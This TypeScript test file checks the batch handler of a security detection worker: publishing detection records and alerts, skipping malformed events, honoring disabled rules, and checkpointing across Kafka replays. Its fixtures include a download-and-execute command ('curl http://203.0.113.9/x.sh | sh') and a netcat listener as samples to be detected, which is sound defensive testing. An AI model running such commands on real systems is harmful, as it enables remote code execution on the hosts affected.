import type { Alert } from '@halong/core';
import type { DetectionRecord } from '../../src/correlation';
import { LiveMatcher, RuleStates, createEventHandler } from '../../src/runtime';
import type { RuleSet } from '../../src/runtime';
import { CORRELATION_ID, FakePublisher, MemoryCheckpointStore, MemoryControl, QUIET_ID, RULE_ID, SILENT, T0, aggregator, consumed, processEvent, ruleSetOf, standardFiles } from './support';

const TOPIC = 'x.halong.events.v1';
const events = (from: number, values: unknown[], partition = 0) => values.map((v, i) => consumed(TOPIC, 'events', partition, from + i, v));

async function setup(set?: RuleSet, control = new MemoryControl(), store = new MemoryCheckpointStore(), publisher = new FakePublisher()) {
  const rules = set ?? (await ruleSetOf(standardFiles()));
  const states = new RuleStates(control);
  const matcher = new LiveMatcher(rules, states);
  const handler = createEventHandler({ group: 'halong-detection', matcher, aggregator, store, publisher, logger: SILENT, clock: () => T0 });
  return { handler, publisher, store, states, matcher, rules };
}

describe('the detection worker’s batch handler', () => {
  it('publishes detection records keyed by group key and the rule’s alert keyed by its id', async () => {
    const { handler, publisher } = await setup();
    await handler.handle(events(0, [processEvent('e1', T0), processEvent('e2', T0 + 1000, { cmd: 'ls -la' }), processEvent('e3', T0 + 2000, { host: 'web-02' })]));
    const detections = publisher.on<DetectionRecord>('detections');
    expect(detections.map((d) => [d.key, d.value.correlationId, d.value.hit.eventId])).toEqual([
      ['host.name=web-01', CORRELATION_ID, 'e1'],
      ['host.name=web-02', CORRELATION_ID, 'e3'],
    ]);
    expect(detections[0]!.value.hit).toMatchObject({ ruleId: RULE_ID, timestamp: T0, fields: { 'host.name': 'web-01', 'process.command_line': 'curl http://203.0.113.9/x.sh | sh' } });
    const alerts = publisher.on<Alert>('alerts');
    expect(alerts.every((a) => a.key === a.value.id)).toBe(true);
    expect(new Set(alerts.map((a) => a.value.group_key))).toEqual(new Set(['host.name=web-01', 'host.name=web-02']));
    expect(alerts[0]!.value).toMatchObject({
      rule: { id: RULE_ID, level: 'high', attack: { tactics: ['execution'], techniques: ['T1059.004'] } },
      entities: { host: ['web-01'], user: ['alice'], ip: ['10.0.0.7'] },
      events: [{ id: 'e1', index: 'halong-events-linux.auditd-2026.03.01' }],
      count: 1,
    });
    expect(handler.counters()).toMatchObject({ events: 3, hits: 2, detectionsPublished: 2, partitions: { started: 1, saved: 1 } });
  });

  it('counts and skips malformed events without failing the batch', async () => {
    const { handler, publisher } = await setup();
    const batch = [
      consumed(TOPIC, 'events', 0, 0, undefined, '{not json'),
      consumed(TOPIC, 'events', 0, 1, [1, 2]),
      consumed(TOPIC, 'events', 0, 2, { event: { kind: 'event' } }),
      consumed(TOPIC, 'events', 0, 3, processEvent('e4', T0)),
    ];
    await handler.handle(batch);
    expect(handler.counters()).toMatchObject({ events: 4, malformed: { 'not-json': 1, 'not-an-object': 1, 'no-event-id': 1 }, hits: 1 });
    expect(publisher.on('detections')).toHaveLength(1);
  });

  it('never produces hits for a disabled rule', async () => {
    const { handler, publisher, states } = await setup();
    await states.setEnabled(RULE_ID, false, 'admin');
    await handler.handle(events(0, [processEvent('e1', T0), processEvent('e2', T0, { image: '/usr/bin/nc', cmd: 'nc -lvp 4444' })]));
    expect(publisher.on<DetectionRecord>('detections')).toEqual([]);
    expect(publisher.on<Alert>('alerts').map((a) => a.value.rule.id)).toEqual([QUIET_ID]);
  });

  it('checkpoints the alert state so a restart keeps counting the same alert, and a replay adds nothing', async () => {
    const store = new MemoryCheckpointStore();
    const first = await setup(undefined, new MemoryControl(), store);
    await first.handler.handle(events(0, [processEvent('e1', T0), processEvent('e2', T0 + 1000)]));
    // A new process takes the partition over; Kafka replays offset 1 (commit lost) then new events.
    const second = await setup(first.rules, new MemoryControl(), store);
    await second.handler.handle(events(1, [processEvent('e2', T0 + 1000), processEvent('e3', T0 + 2000)]));
    const last = second.publisher.on<Alert>('alerts').at(-1)!.value;
    expect(last).toMatchObject({ count: 3, events: [{ id: 'e1' }, { id: 'e2' }, { id: 'e3' }] });
    expect(second.publisher.on('detections')).toHaveLength(1);
    expect(second.handler.counters().partitions).toMatchObject({ restored: 1, skippedRecords: 1 });
  });

  it('fails the batch (so Kafka redelivers it) when publishing fails, without checkpointing it', async () => {
    const { handler, publisher, store } = await setup();
    publisher.failNext = true;
    await expect(handler.handle(events(0, [processEvent('e1', T0)]))).rejects.toThrow('Kafka did not acknowledge');
    expect(store.docs.size).toBe(0);
    await handler.handle(events(0, [processEvent('e1', T0)]));
    // The alert may have gone out with the failed batch: the retry sends the same document again.
    const alerts = publisher.on<Alert>('alerts');
    expect(new Set(alerts.map((a) => a.value.id)).size).toBe(1);
    expect(alerts.map((a) => a.value.count)).toEqual(alerts.map(() => 1));
    expect(store.docs.size).toBe(1);
  });
});
